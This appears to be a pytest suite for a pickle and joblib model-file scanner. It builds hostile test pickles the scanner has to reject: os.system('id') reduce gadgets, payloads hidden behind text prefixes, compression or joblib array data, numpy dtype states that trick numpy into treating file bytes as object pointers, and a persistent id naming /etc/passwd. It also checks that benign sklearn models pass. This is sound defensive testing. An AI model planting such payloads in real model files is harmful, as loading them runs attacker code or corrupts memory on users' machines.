    cases.append(Hostile("p0-no-stop", NESTED[:-1], "pickle.global_not_allowed", "os.system", 0))
    cases.append(
        Hostile("p0-no-stop-no-newline", b"cos\nsystem\n(S'id'\ntR", "pickle.global_not_allowed")
    )
    # -- a text-looking prefix the unpickler happily runs through --
    for prefix in (
        b"S'model card: weights for the churn model, safe to load'\n0",
        b"Vhttps://example.invalid/README\n0",
        b"I20260101\n0",
        b"(Va\nVb\nl0",
        b"N0" * 100,
    ):
        data = prefix + NESTED
        cases.append(
            Hostile(
                f"text-prefix-{prefix[:4]!r}",
                data,
                "pickle.global_not_allowed",
                "os.system",
                len(prefix),
            )
        )
    data = b"S'readme'\n0" + pickle.dumps(_Reduce(os.system, "id"), protocol=2)
    cases.append(
        Hostile(
            "text-prefix-then-p2",
            data,
            "pickle.global_not_allowed",
            "posix.system",
            also=("pickle.bad_protocol",),
        )
    )
    # both unpicklers import the module before they look the name up, and importing
    # unittest.__main__ runs test discovery; the Python unpickler (joblib's) even takes a
    # name cut off by the end of the stream
    cases.append(
        Hostile(
            "import-only-bad-name",
            b"cunittest.__main__\nno such name\n",
            "pickle.global_not_allowed",
            "unittest.__main__.no such name",
            0,
        )
    )
    cases.append(
        Hostile("import-only-truncated-name", b"cunittest.__main__\nx", "pickle.truncated", None, 0)
    )
    # -- constrained callables called with the wrong arguments --
    f = Forge(2).at("c").call("_codecs", "encode", "x", "rot13").stop()
    add("codecs-encode-rot13", f, "pickle.call_args_not_allowed", "_codecs.encode", "call")
    f = Forge(2).call("_codecs", "encode", "x", "latin1", "strict").stop()
    add("codecs-encode-3-args", f, "pickle.call_args_not_allowed", "_codecs.encode", "call")
    f = Forge(4).import_("numpy.random._pickle", "__randomstate_ctor").mark().str_("MT19937")
    f.import_("collections", "OrderedDict").tuple_().at("call").reduce().stop()
    add("randomstate-ctor-foreign-ctor", f, "pickle.call_args_not_allowed", "__randomstate", "call")
    f = Forge(4).import_("numpy.random._pickle", "__bit_generator_ctor").mark()
    f.import_("collections", "OrderedDict").tuple_().at("call").reduce().stop()
    add("bitgen-ctor-foreign-class", f, "pickle.call_args_not_allowed", "__bit_generator", "call")
    f = Forge(4).import_("numpy.random._pickle", "__generator_ctor").mark()
    f.call("builtins", "dict").tuple_().at("call").reduce().stop()
    add("generator-ctor-foreign-object", f, "pickle.call_args_not_allowed", "__generator", "call")
    f = Forge(2).call("torch._utils", "_rebuild_tensor_v2", "x", 0, (2,), (1,), False).stop()
    add("rebuild-tensor-outside-torch", f, "pickle.call_args_not_allowed", "_rebuild", "call")
    return cases


def _truncation_cases() -> list[Hostile]:
    cases = []
    streams = {
        "hostile-p4": pickle.dumps(_Reduce(os.system, "id"), protocol=4),
        "hostile-p2": pickle.dumps(_Reduce(os.system, "id"), protocol=2),
        "benign-p5": pickle.dumps({"a": [1, 2.5, "x" * 30], "b": (None, True)}, protocol=5),
        "benign-p2": pickle.dumps({"a": [1, 2.5, "x" * 30], "b": (None, True)}, protocol=2),
    }
    for label, data in streams.items():
        for cut in range(2, len(data), 5):
            cases.append(Hostile(f"truncated-{label}-at-{cut}", data[:cut], "pickle.truncated"))
    return cases


def _limit_cases() -> list[Hostile]:
    small = ScanLimits(max_stack_depth=50, max_memo_entries=10, max_opcodes=500, max_line_bytes=64)
    cases = []
    f = Forge(4)
    for _ in range(60):
        f.none()
    cases.append(
        Hostile("deep-stack", f.stop().data, "pickle.limit_exceeded", "stack", None, (), small)
    )
    f = Forge(4)
    for _ in range(60):
        f.mark()
    cases.append(
        Hostile("deep-marks", f.stop().data, "pickle.limit_exceeded", "stack", None, (), small)
    )
    f = Forge(4)
    for i in range(20):
        f.none().put(i).pop()
    cases.append(
        Hostile("big-memo", f.none().stop().data, "pickle.limit_exceeded", "memo", None, (), small)
    )
    f = Forge(4).none().put(10_000)
    cases.append(
        Hostile("far-memo-slot", f.stop().data, "pickle.limit_exceeded", "memo", None, (), small)
    )
    f = Forge(4)
    for _ in range(600):
        f.none().pop()
    cases.append(
        Hostile(
            "many-opcodes",
            f.none().stop().data,
            "pickle.limit_exceeded",
            "opcodes",
            None,
            (),
            small,
        )
    )
    f = Forge(2).global_("a" * 100, "b")
    cases.append(Hostile("long-line", f.stop().data, "pickle.limit_exceeded", "line", 2, (), small))
    # protocol 0: the limit is hit before the import; pickle.load has no such limit
    data = b"S'" + b"x" * 100 + b"'\n0" + NESTED
    cases.append(
        Hostile("p0-long-line-then-gadget", data, "pickle.limit_exceeded", None, 0, (), small)
    )
    data = b"N" * 60 + b"0" * 60 + NESTED
    cases.append(
        Hostile("p0-deep-stack-then-gadget", data, "pickle.limit_exceeded", None, None, (), small)
    )
    data = b"S'" + b"x" * (1 << 20) + b"'\n0" + NESTED
    cases.append(Hostile("p0-1mib-line-then-gadget", data, "pickle.limit_exceeded", None, 0))
    return cases


def _compressed_cases() -> list[Hostile]:
    cases = []
    hostile4 = pickle.dumps(_Reduce(os.system, "id"), protocol=4)
    for codec in CODECS:
        for label, raw in (("p4", hostile4), ("p0", NESTED)):
            cases.append(
                Hostile(
                    f"compressed-{codec}-{label}",
                    compress(codec, raw),
                    "pickle.global_not_allowed",
                    "system",
                    first_import(raw),
                )
            )
        half = len(hostile4) // 2
        cases.append(
            Hostile(
                f"compressed-{codec}-two-streams",
                compress(codec, hostile4[:half]) + compress(codec, hostile4[half:]),
                "pickle.global_not_allowed",
                "system",
                first_import(hostile4),
            )
        )
        benign = pickle.dumps([1, 2], protocol=4)
        cases.append(
            Hostile(
                f"compressed-{codec}-stacked",
                compress(codec, benign + hostile4),
                "pickle.trailing_data",
                None,
                len(benign),
            )
        )
        cases.append(
            Hostile(
                f"compressed-{codec}-truncated",
                compress(codec, hostile4)[:-6],
                "compressed.truncated",
                codec,
            )
        )
        cases.append(
            Hostile(
                f"compressed-{codec}-benign-truncated",
                compress(codec, benign)[:-6],
                "compressed.truncated",
                codec,
            )
        )
    return cases


# -- joblib NumpyArrayWrapper abuses --

WRAPPER = ("joblib.numpy_pickle", "NumpyArrayWrapper")


def _wrapper_file(
    *,
    shape: tuple[int, ...] = (3,),
    data: bytes | None = None,
    align: int | None = 16,
    pad: bytes | None = None,
    extra: dict[str, object] | None = None,
    subclass: tuple[str, str] = ("numpy", "ndarray"),
    order: str = "C",
    dtype: bool = True,
) -> Forge:
    """`(array,)` as joblib.dump writes it (float64 data), with the given alterations."""
    f = Forge(4).mark()
    wrapper_head(
        f, shape=shape, align=align, extra=extra, subclass=subclass, order=order, dtype=dtype
    )
    if align is not None:
        f.raw(padding_for(len(f), align) if pad is None else pad)
    f.at("data").raw(np.zeros(shape).tobytes() if data is None else data)
    return f.tuple_().stop()


def _wrapper_with_dtype(
    write_dtype: Callable[[Forge], object], *, shape: tuple[int, ...], data: bytes
) -> Forge:
    """`(array,)` through an unaligned wrapper whose dtype `write_dtype` writes; label 'b'
    marks the wrapper's BUILD."""
    f = Forge(4).mark().import_(*WRAPPER).empty_tuple().newobj()
    f.empty_dict().mark().str_("subclass").import_("numpy", "ndarray")
    f.str_("shape").args(shape).str_("order").str_("C").str_("dtype")
    write_dtype(f)
    f.str_("allow_mmap").true().setitems().at("b").build()
    return f.raw(data).tuple_().stop()


def _structured_dtype(f: Forge, fields: dict[str, Callable[[Forge], object]], flags: int) -> None:
    """A 'V8' structured dtype whose fields (all at offset 0) are written by `fields`."""
    f.import_("numpy", "dtype").mark().str_("V8").false().true().tuple_().reduce()
    f.mark().int_(3).str_("|").none().args(tuple(fields)).empty_dict().mark()
    for name, write in fields.items():
        f.str_(name).mark()
        write(f)
        f.int_(0).tuple_()
    f.setitems().int_(8).int_(1).int_(flags).tuple_().build()


def _object_array_file(nested: bytes) -> bytes:
    """`(array,)` for an object array: joblib writes its nested pickle after the BUILD."""
    f = Forge(4).mark().import_(*WRAPPER).empty_tuple().newobj()
    f.empty_dict().mark()
    f.str_("subclass").import_("numpy", "ndarray")
    f.str_("shape").args((1,))
    f.str_("order").str_("C")
    f.str_("dtype")
    dtype_ops(f, "O8", order="|", flags=63)
    f.str_("allow_mmap").false()
    f.setitems().build()
    return f.data + nested + Forge(None).tuple_().stop().data


def _shared_field_dtype_file(levels: int = 16, width: int = 60) -> bytes:
    """A wrapper whose structured dtype uses one dtype (through the memo) for all `width`
    fields of the next, `levels` deep: valid for numpy, and 60**16 field checks for a walker
    that does not remember what it has checked."""

    def write(f: Forge) -> None:
        dtype_ops(f, "f8")
        f.put(0)
        for level in range(1, levels + 1):
            f.pop()
            previous = functools.partial(Forge.get, index=level - 1)
            _structured_dtype(f, {f"f{i}": previous for i in range(width)}, flags=0)
            f.put(level)

    return _wrapper_with_dtype(write, shape=(1,), data=b"\x00" * 8).data


def _joblib_cases() -> list[Hostile]:
    cases: list[Hostile] = []

    def add(id_: str, f: Forge, code: str, culprit: str | None, label: str = "build") -> None:
        cases.append(Hostile(id_, f.data, code, culprit, f.marks[label]))

    # object arrays: a nested pickle, read by a plain Unpickler
    hostile = pickle.dumps(_Reduce(os.system, "id"), protocol=5)
    data = _object_array_file(hostile)
    at = data.index(hostile) + first_import(hostile)
    cases.append(
        Hostile("joblib-object-array-hostile", data, "pickle.global_not_allowed", "system", at)
    )
    for codec in CODECS:
        cases.append(
            Hostile(
                f"joblib-{codec}-object-array-hostile",
                compress(codec, data),
                "pickle.global_not_allowed",
                "posix.system",
                at,
            )
        )
    nested = _object_array_file(_wrapper_file().data)
    cases.append(
        Hostile(
            "joblib-object-array-nested-wrapper",
            nested,
            "pickle.global_not_allowed",
            "NumpyArrayWrapper is only valid in a top-level joblib stream",
        )
    )
    # the nested pickle is cut short: it runs on into the outer stream's opcodes
    cut = _object_array_file(hostile[:-3])
    cases.append(Hostile("joblib-object-array-cut", cut, "pickle.global_not_allowed", "system"))
    benign = pickle.dumps(np.array([1, "a"], dtype=object), protocol=5)
    cases.append(
        Hostile(
            "joblib-object-array-truncated-at-eof",
            _object_array_file(benign)[: -len(b"t.") - 4],
            "pickle.truncated",
        )
    )
    # the shape and the data disagree
    f = Forge(4).mark()
    wrapper_head(f, shape=(4,))
    f.raw(padding_for(len(f))).raw(np.zeros(1).tobytes()).tuple_().stop()
    cases.append(Hostile("joblib-shape-swallows-stop", f.data, "pickle.truncated"))
    hidden = Forge(None).call("os", "system", "id").pop().data
    f = _wrapper_file(shape=(1,), data=np.zeros(1).tobytes() + hidden)
    cases.append(
        Hostile(
            "joblib-hidden-opcodes-after-data",
            f.data,
            "pickle.global_not_allowed",
            "os.system",
            f.marks["data"] + 8,
        )
    )
    # lying dtypes: numpy would read another number of bytes than the type string says, or
    # find objects (a nested pickle) where the flags claim raw data
    lies: dict[str, Callable[[Forge], object]] = {
        "elsize-on-fixed": lambda f: dtype_ops(f, "f8", elsize=16),
        "flags-claim-object": lambda f: dtype_ops(f, "f8", flags=1),
        "newobj-dtype": lambda f: dtype_ops(f, "f8", kind="NEWOBJ"),
        "bad-type-string": lambda f: dtype_ops(f, "i16"),
        "V-elsize": lambda f: dtype_ops(f, "V8", order="|", elsize=4096),
        "U-elsize": lambda f: dtype_ops(f, "U2", order="|", elsize=4),
        "built-twice": lambda f: (
            dtype_ops(f, "f8").args((3, "<", None, None, None, 16, -1, 0)).build()
        ),
        "hidden-object-field": lambda f: _structured_dtype(
            f, {"a": lambda g: dtype_ops(g, "O8", order="|", flags=63)}, flags=0
        ),
        "not-a-dtype": lambda f: f.call("builtins", "str", "f8"),
    }
    for label, write in lies.items():
        f = _wrapper_with_dtype(write, shape=(2,), data=b"\x00" * 16)
        add(f"joblib-dtype-{label}", f, "joblib.bad_wrapper", "dtype", "b")
    # wrapper state and construction
    bad_states: dict[str, Forge] = {
        "extra-key": _wrapper_file(extra={"read_array": 1}),
        "alignment-8": _wrapper_file(align=8),
        "subclass-not-array": _wrapper_file(subclass=("collections", "OrderedDict")),
        "order-x": _wrapper_file(order="X"),
        "no-dtype": _wrapper_file(dtype=False),
        # BUILD updates the wrapper's __dict__: a `read` key would replace the method joblib
        # calls next
        "extra-key-shadowing-read": _wrapper_file(extra={"read": 1}),
    }
    for label, f in bad_states.items():
        add(f"joblib-wrapper-{label}", f, "joblib.bad_wrapper", "NumpyArrayWrapper")
    for label, shape in (("negative", (-1,)), ("bool", (True,))):
        f = _wrapper_file(shape=shape, data=b"")
        add(f"joblib-shape-{label}", f, "joblib.bad_wrapper", "shape")
    # made by calling the class (REDUCE) rather than joblib's NEWOBJ, then built
    f = Forge(4).mark().import_(*WRAPPER)
    f.mark().import_("numpy", "ndarray").args((1,)).str_("C").tuple_().reduce()
    wrapper_state(f, shape=(1,), align=None).at("b").build()
    f.raw(np.zeros(1).tobytes()).tuple_().stop()
    add("joblib-wrapper-reduce", f, "joblib.bad_wrapper", "created", "b")
    # built twice: joblib would read a second array
    f = Forge(4).mark().import_(*WRAPPER).empty_tuple().newobj().put(0)
    wrapper_state(f, shape=(1,)).build()
    f.raw(padding_for(len(f))).raw(np.zeros(1).tobytes())
    f.get(0)
    wrapper_state(f, shape=(1,)).at("b").build()
    f.raw(padding_for(len(f))).raw(np.zeros(1).tobytes()).pop().tuple_().stop()
    add("joblib-wrapper-built-twice", f, "joblib.bad_wrapper", None, "b")
    # padding
    for label, pad in (
        ("zero", b"\x00"),
        ("too-long", b"\x11" + b"\xff" * 17),
        ("not-ff", b"\x03\xff\x00\xff"),
    ):
        add(f"joblib-padding-{label}", _wrapper_file(pad=pad), "joblib.bad_wrapper", "padding")
    f = Forge(4).mark()
    wrapper_head(f, shape=(1,))
    cases.append(Hostile("joblib-padding-truncated", f.data + b"\x05\xff", "pickle.truncated"))
    # without alignment, data that starts with an opcode is a pickle.load / joblib.load split
    f = _wrapper_file(align=None, data=hidden[:8] * 3)
    add("joblib-unaligned-data-is-opcodes", f, "joblib.pickle_differential", "opcode")
    # a FRAME that runs past the wrapper's BUILD: the unpickler buffered the array bytes
    f = Forge(4).frame(400).mark()
    wrapper_head(f, shape=(1,))
    f.raw(padding_for(len(f))).raw(np.zeros(1).tobytes()).tuple_().stop()
    add("joblib-frame-past-wrapper", f, "pickle.frame_mismatch", "NumpyArrayWrapper")
    return cases


def _object_dtype(f: Forge) -> None:
    dtype_ops(f, "O8", order="|", flags=63)


def _lying_array(
    write_dtype: Callable[[Forge], object], how: str = "reconstruct", size: int = 8
) -> Forge:
    """A plain pickle handing numpy `size` raw bytes `AAAA...` together with a dtype that
    `write_dtype` writes, through `_reconstruct` + BUILD, `scalar` or `_frombuffer`."""
    f = Forge(2)
    if how == "reconstruct":
        f.global_("numpy.core.multiarray", "_reconstruct")
        f.mark().global_("numpy", "ndarray").args((0,)).bytes_(b"b").tuple_().reduce()
        f.mark().int_(1).args((1,))
        write_dtype(f)
        f.false().bytes_(b"A" * size).tuple_().at("b").build()
    elif how == "scalar":
        f.global_("numpy.core.multiarray", "scalar").mark()
        write_dtype(f)
        f.bytes_(b"A" * size).tuple_().reduce()
    else:
        f.global_("numpy.core.numeric", "_frombuffer").mark().bytes_(b"A" * size)
        write_dtype(f)
        f.args((1,)).str_("C").tuple_().reduce()
    return f.stop()


def _object_subarray(f: Forge) -> None:
    """'V16' whose sub-array base is an object dtype, with flags 0."""
    dtype_ops(f, "V16", order="|", build=False)
    f.mark().int_(3).str_("|").mark()
    _object_dtype(f)
    f.args((2,)).tuple_().none().none().int_(16).int_(8).int_(0).tuple_().build()


def _untracked_fields(f: Forge) -> None:
    """A structured dtype whose fields dict is built by calling `dict` on a list: the walker
    cannot see that it holds an object field, so flags 0 cannot be trusted."""
    dtype_ops(f, "V8", order="|", build=False)
    f.mark().int_(3).str_("|").none().args(("a",))
    f.import_("builtins", "dict").empty_list().mark().mark().str_("a").mark()
    _object_dtype(f)
    f.int_(0).tuple_().tuple_().appends().tuple1().reduce()
    f.int_(8).int_(1).int_(0).tuple_().build()


def _seven_item_state(f: Forge) -> None:
    dtype_ops(f, "V8", order="|", build=False)
    f.mark().int_(3).str_("|").none().args(("a",)).empty_dict().str_("a").mark()
    _object_dtype(f)
    f.int_(0).tuple_().setitem().int_(8).int_(1).tuple_().build()


def _dtype_cases() -> list[Hostile]:
    """numpy trusts a dtype state's flags: a dtype with an object field whose flags say "no
    objects" makes numpy take raw bytes from the file as object pointers (a segfault, or
    worse, when the array is used), through nothing but allowed numpy globals."""
    lies: dict[str, Callable[[Forge], object]] = {
        "object-field-flags-0": lambda f: _structured_dtype(f, {"a": _object_dtype}, flags=0),
        # references to release but raw bytes: numpy frees the bytes as objects on collection
        "object-field-refcount-only": lambda f: _structured_dtype(f, {"a": _object_dtype}, flags=1),
        # this one and float-flags-mixed numpy refuses (list pickle without a list), but it
        # never writes such flags either
        "object-field-list-pickle-only": lambda f: _structured_dtype(
            f, {"a": _object_dtype}, flags=2
        ),
        "nested-object-field-flags-0": lambda f: _structured_dtype(
            f, {"a": lambda g: _structured_dtype(g, {"b": _object_dtype}, flags=27)}, flags=16
        ),
        "object-dtype-flags-0": lambda f: dtype_ops(f, "O8", order="|", flags=0),
        "object-subarray-flags-0": _object_subarray,
        "fields-not-tracked": _untracked_fields,
        "float-flags-mixed": lambda f: dtype_ops(f, "f8", flags=2),
        # a version 3 state of 7 items has no flags item: numpy takes the flags as 0
        "object-field-seven-item-state": _seven_item_state,
        # type strings numpy's __reduce__ never writes but numpy parses into objects
        "object-alias-type-string": lambda f: (
            f.import_("numpy", "dtype")
            .args(("object", False, True))
            .reduce()
            .args((3, "|", None, None, None, -1, -1, 0))
            .build()
        ),
        "comma-type-string-field": lambda f: _structured_dtype(
            f,
            {"a": lambda g: g.import_("numpy", "dtype").args(("i4,O", False, True)).reduce()},
            flags=0,
        ),
    }
    cases = [
        Hostile(
            f"dtype-{label}",
            _lying_array(write, size=16 if "subarray" in label else 8).data,
            "pickle.bad_dtype",
            "numpy.dtype state",
        )
        for label, write in lies.items()
    ]
    for how in ("scalar", "frombuffer"):
        f = _lying_array(lies["object-field-flags-0"], how)
        cases.append(Hostile(f"dtype-raw-pointers-via-{how}", f.data, "pickle.bad_dtype", "flags"))

    # a field dtype changed by a BUILD after the structured dtype that holds it was built
    def late(f: Forge) -> None:
        dtype_ops(f, "V8", order="|", build=False)
        f.put(9)
        f.pop()
        _structured_dtype(f, {"a": lambda g: g.get(9)}, flags=0)
        f.get(9).mark().int_(3).str_("|").none().args(("b",)).empty_dict().str_("b").mark()
        _object_dtype(f)
        f.int_(0).tuple_().setitem().int_(8).int_(1).int_(63).tuple_().build().pop()

    f = _lying_array(late)
    cases.append(Hostile("dtype-field-built-late", f.data, "pickle.bad_dtype", "after another"))
    return cases


def _container_cases() -> list[Hostile]:
    """Hostile pickles inside the containers that hold them: .npy object arrays, zips,
    PyTorch checkpoints."""
    cases = []
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "|O", "fortran_order": False, "shape": (1,)}
    )
    body = pickle.dumps(_Reduce(os.system, "id"), protocol=3)
    cases.append(
        Hostile(
            "npy-object-array-hostile",
            header.getvalue() + body,
            "pickle.global_not_allowed",
            "posix.system",
            len(header.getvalue()) + first_import(body),
        )
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("model/weights.pkl", body)
    cases.append(
        Hostile("zip-member-hostile", buf.getvalue(), "pickle.global_not_allowed", "posix.system")
    )
    for label, pkl, code in (
        ("gadget", body, "pickle.global_not_allowed"),
        ("text-persid", Forge(2).persid("0").stop().data, "pytorch.bad_persistent_id"),
        (
            "foreign-persid",
            Forge(2).mark().str_("file").str_("/etc/passwd").tuple_().binpersid().stop().data,
            "pytorch.bad_persistent_id",
        ),
    ):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("archive/data.pkl", pkl)
            z.writestr("archive/version", "3\n")
        cases.append(Hostile(f"torch-{label}", buf.getvalue(), code))
    return cases


HOSTILE: list[Hostile] = [
    *_gadget_cases(),
    *_reduce_cases(),
    *_structure_cases(),
    *_truncation_cases(),
    *_limit_cases(),
    *_compressed_cases(),
    *_joblib_cases(),
    *_dtype_cases(),
    *_container_cases(),
]


def test_hostile_ids_are_unique() -> None:
    ids = [c.id for c in HOSTILE]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("name", ["model.safetensors", "README.md", "config.json", "x.onnx"])
def test_hostile_pickle_named_like_another_format_is_rejected(name: str) -> None:
    """Routing is by content, never by name (CVE-2025-1889, CVE-2025-10155)."""
    for data in (NESTED, pickle.dumps(_Reduce(os.system, "id"), protocol=4)):
        report = SCANNER.scan_bytes(data, name)
        assert report.format is ArtifactFormat.PICKLE
        assert "pickle.global_not_allowed" in {f.code for f in report.findings}


@pytest.mark.parametrize("case", HOSTILE, ids=lambda c: c.id)
def test_hostile_pickle_is_rejected(case: Hostile) -> None:
    report = scan(case.data, case.limits)
    assert not report.clean, f"{case.id} was accepted"
    for finding in report.findings:
        assert finding.offset is None or isinstance(finding.offset, int)
        assert finding.code.count(".") == 1
        assert finding.reason
    codes = {f.code for f in report.findings}
    for code in case.also:
        assert code in codes, report.findings
    if case.code is None:
        return
    matching = [f for f in report.findings if f.code == case.code]
    assert matching, f"no {case.code} in {report.findings}"
    if case.culprit is not None:
        matching = [f for f in matching if case.culprit in f.reason]
        assert matching, f"no {case.code} naming {case.culprit!r} in {report.findings}"
    if case.offset is not None:
        assert any(f.offset == case.offset for f in matching), report.findings


def test_shared_structured_dtype_is_checked_once() -> None:
    """One structured dtype reused (through the memo) as all 60 fields of the next, 16
    deep, is a valid dtype; the check must not redo each shared field (60**16 visits)."""
    import time

    data = _shared_field_dtype_file()
    started = time.perf_counter()
    report = scan(data)
    assert time.perf_counter() - started < 2.0
    assert (report.format, report.findings) == (ArtifactFormat.JOBLIB, ())
    small = _shared_field_dtype_file(levels=3, width=4)
    assert joblib.load(io.BytesIO(small))[0].dtype.itemsize == 8  # numpy agrees it is valid


# -- the benign corpus -------------------------------------------------------------------------


@functools.cache
def _training_data() -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    from sklearn.datasets import make_classification

    x, y = make_classification(n_samples=80, n_features=6, n_informative=4, random_state=0)
    yr = x @ np.arange(1.0, 7.0) + 0.1 * y
    return x, y, yr


def _mixed_frame() -> tuple[np.ndarray, np.ndarray]:
    """A numpy object array with a numeric column (with gaps) and a categorical one."""
    rng = np.random.default_rng(0)
    n = 60
    numeric = rng.normal(size=n).astype(object)
    numeric[::7] = np.nan
    colours = rng.choice(["red", "green", "blue"], size=n).astype(object)
    x = np.empty((n, 2), dtype=object)
    x[:, 0] = numeric
    x[:, 1] = colours
    y = (colours == "red").astype(int)
    return x, y


def _fit(name: str) -> object:
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        ExtraTreesClassifier,
        ExtraTreesRegressor,
        GradientBoostingClassifier,
        GradientBoostingRegressor,
        HistGradientBoostingClassifier,
        HistGradientBoostingRegressor,
        IsolationForest,
        RandomForestClassifier,
        RandomForestRegressor,
    )
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import Pipeline, make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC

    x, y, yr = _training_data()
    extra = _fit_extra(name, x, y, yr)
    if extra is not None:
        return extra
    if name == "column-transformer":
        xo, yo = _mixed_frame()
        pre = ColumnTransformer(
            [
                ("num", SimpleImputer(strategy="mean"), [0]),
                ("cat", OneHotEncoder(handle_unknown="ignore"), [1]),
            ]
        )
        return Pipeline([("pre", pre), ("clf", LogisticRegression())]).fit(xo, yo)
    classifiers: dict[str, Callable[[], Any]] = {
        "scaler-logistic": lambda: make_pipeline(StandardScaler(), LogisticRegression()),
        "random-forest-classifier": lambda: RandomForestClassifier(n_estimators=3, random_state=0),
        "extra-trees-classifier": lambda: ExtraTreesClassifier(n_estimators=3, random_state=0),
        "gradient-boosting-classifier": lambda: GradientBoostingClassifier(
            n_estimators=3, random_state=0
        ),
        "hist-gradient-boosting-classifier": lambda: HistGradientBoostingClassifier(
            max_iter=3, random_state=0
        ),
        "kneighbors-classifier": lambda: KNeighborsClassifier(n_neighbors=3),
        "svc": lambda: SVC(probability=False),
    }
    regressors: dict[str, Callable[[], Any]] = {
        "random-forest-regressor": lambda: RandomForestRegressor(n_estimators=3, random_state=0),
        "extra-trees-regressor": lambda: ExtraTreesRegressor(n_estimators=3, random_state=0),
        "gradient-boosting-regressor": lambda: GradientBoostingRegressor(
            n_estimators=3, random_state=0
        ),
        "hist-gradient-boosting-regressor": lambda: HistGradientBoostingRegressor(
            max_iter=3, random_state=0
        ),
    }
    unsupervised: dict[str, Callable[[], Any]] = {
        "isolation-forest": lambda: IsolationForest(n_estimators=3, random_state=0),
        "kmeans": lambda: KMeans(n_clusters=2, n_init=1, random_state=0),
        "pca": lambda: PCA(n_components=2),
    }
    if name in classifiers:
        return classifiers[name]().fit(x, y)
    if name in regressors:
        return regressors[name]().fit(x, yr)
    return unsupervised[name]().fit(x)


def _fit_extra(name: str, x: np.ndarray, y: np.ndarray, yr: np.ndarray) -> object | None:
    """Estimators whose pickles hold more than arrays and estimators: search results (masked
    arrays, scorers, metric functions), ufuncs, text vocabularies, ball trees."""
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.compose import TransformedTargetRegressor
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LinearRegression, LogisticRegression
    from sklearn.model_selection import GridSearchCV, TunedThresholdClassifierCV
    from sklearn.multiclass import OutputCodeClassifier
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    if name == "grid-search-roc-auc":
        grid = {"C": [0.1, 1.0]}
        return GridSearchCV(LogisticRegression(), grid, cv=2, scoring="roc_auc").fit(x, y)
    if name == "tuned-threshold":
        return TunedThresholdClassifierCV(LogisticRegression(), cv=2).fit(x, y)
    if name == "output-code":
        return OutputCodeClassifier(LogisticRegression(), random_state=0).fit(x, y)
    if name == "calibrated-isotonic":
        return CalibratedClassifierCV(LogisticRegression(), cv=2, method="isotonic").fit(x, y)
    if name == "log1p-pipeline":
        log = FunctionTransformer(np.log1p, inverse_func=np.expm1)
        return make_pipeline(log, LogisticRegression()).fit(np.abs(x), y)
    if name == "log-target-regressor":
        model = TransformedTargetRegressor(LinearRegression(), func=np.log, inverse_func=np.exp)
        return model.fit(x, np.abs(yr) + 1)
    if name == "tfidf-logistic":
        texts = [f"word{i % 5} token{i % 3} model" for i in range(len(y))]
        return make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(texts, y)
    if name == "kneighbors-ball-tree":
        return KNeighborsClassifier(n_neighbors=3, algorithm="ball_tree").fit(x, y)
    return None


MODELS = (
    "grid-search-roc-auc",
    "tuned-threshold",
    "output-code",
    "calibrated-isotonic",
    "log1p-pipeline",
    "log-target-regressor",
    "tfidf-logistic",
    "kneighbors-ball-tree",
    "scaler-logistic",
    "column-transformer",
    "random-forest-classifier",
    "random-forest-regressor",
    "extra-trees-classifier",
    "extra-trees-regressor",
    "gradient-boosting-classifier",
    "gradient-boosting-regressor",
    "hist-gradient-boosting-classifier",
    "hist-gradient-boosting-regressor",
    "isolation-forest",
    "kmeans",
    "kneighbors-classifier",
    "svc",
    "pca",
)


@functools.cache
def fitted(name: str) -> object:
    return _fit(name)


def _joblib_bytes(obj: object, compress: object) -> bytes:
    buf = io.BytesIO()
    joblib.dump(obj, buf, compress=compress)
    return buf.getvalue()


# serializer id -> (dump, expected format)
SERIALIZERS: dict[str, tuple[Callable[[object], bytes], ArtifactFormat]] = {
    **{
        f"pickle-p{p}": (functools.partial(pickle.dumps, protocol=p), ArtifactFormat.PICKLE)
        for p in (2, 3, 4, 5)
    },
    "joblib": (functools.partial(_joblib_bytes, compress=0), ArtifactFormat.JOBLIB),
    "joblib-compress-3": (functools.partial(_joblib_bytes, compress=3), ArtifactFormat.JOBLIB),
    **{
        f"joblib-{codec}": (
            functools.partial(_joblib_bytes, compress=(codec, 3)),
            ArtifactFormat.JOBLIB,
        )
        for codec in ("zlib", "gzip", "bz2", "lzma", "xz")
    },
}


def assert_accepted(data: bytes, fmt: ArtifactFormat) -> None:
    report = scan(data)
    assert report.findings == ()
    assert report.clean
    assert report.format is fmt


@pytest.mark.parametrize("serializer", SERIALIZERS)
@pytest.mark.parametrize("model", MODELS)
def test_fitted_estimator_is_accepted(model: str, serializer: str) -> None:
    dump, fmt = SERIALIZERS[serializer]
    assert_accepted(dump(fitted(model)), fmt)


def _arrays() -> dict[str, np.ndarray]:
    rng = np.random.default_rng(1)
    structured = np.zeros(3, dtype=[("id", "<i4"), ("pos", "<f8", (2,)), ("tag", "S3")])
    structured["id"] = [1, 2, 3]
    nested = np.zeros(2, dtype=[("outer", [("a", "<u2"), ("b", ">f4")]), ("flag", "?")])
    return {
        "float64": rng.normal(size=(4, 3)),
        "float32": rng.normal(size=7).astype(np.float32),
        "float16": np.arange(5, dtype=np.float16),
        "longdouble": np.arange(3, dtype=np.longdouble),
        "int8": np.arange(-4, 4, dtype=np.int8),
        "int16": np.arange(6, dtype=np.int16),
        "int32": np.arange(6, dtype=np.int32),
        "int64-starts-with-opcode-byte": np.array([40, 46, 99, 0x80], dtype=np.int64),
        "uint8": np.arange(256, dtype=np.uint8),
        "uint64": np.arange(4, dtype=np.uint64),
        "bool": np.array([True, False, True]),
        "complex64": np.array([1 + 2j, 3 - 4j], dtype=np.complex64),
        "complex128": np.array([1 + 2j], dtype=np.complex128),
        "str": np.array(["a", "bcd", "é"]),
        "bytes": np.array([b"ab", b"c"]),
